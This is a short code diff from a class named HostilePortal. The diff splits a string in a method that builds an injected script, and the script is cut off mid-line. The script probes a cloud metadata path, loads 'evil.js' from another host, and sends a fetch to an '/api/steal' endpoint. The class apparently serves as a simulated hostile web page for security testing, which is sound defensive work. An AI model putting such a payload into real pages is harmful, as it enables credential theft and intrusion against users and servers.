@@ -243,7 +243,8 @@ class HostilePortal:
         return (
             "<script>"
             f"var i=new Image();i.src='{meta}/latest/meta-data/x.png';"
-            f"var s=document.createElement('script');s.src='{other}/evil.js';document.head.appendChild(s);"
+            f"var s=document.createElement('script');s.src='{other}/evil.js';document.head.appen"
+            "dChild(s);"
             f"fetch('{other}/api/steal',{{mode:'no-cors'}}).catch(function(){{}});"
             "fetch('/js/hop').catch(function(){});"
             "fetch('/js/data').then(function(r){return r.text()}).then(function(t){"
